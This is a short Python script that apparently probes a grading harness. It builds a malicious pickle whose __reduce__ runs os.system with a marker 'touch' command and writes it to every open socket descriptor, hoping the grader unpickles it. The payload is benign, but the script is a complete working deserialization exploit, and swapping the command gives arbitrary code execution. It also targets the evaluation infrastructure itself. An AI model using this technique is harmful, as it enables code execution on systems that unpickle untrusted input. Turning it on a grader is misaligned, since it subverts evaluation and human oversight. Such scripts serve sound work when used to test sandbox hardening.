"""Sends a pickle that would run a command if it were loaded."""

import os
import pickle
import stat
import struct


class Command:
    def __reduce__(self):
        return os.system, ("touch /nonexistent/jwt-grader-attack-pickle",)


BODY = pickle.dumps(Command())

for descriptor in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
            os.write(descriptor, struct.pack(">I", len(BODY)) + BODY)
    except OSError:
        continue
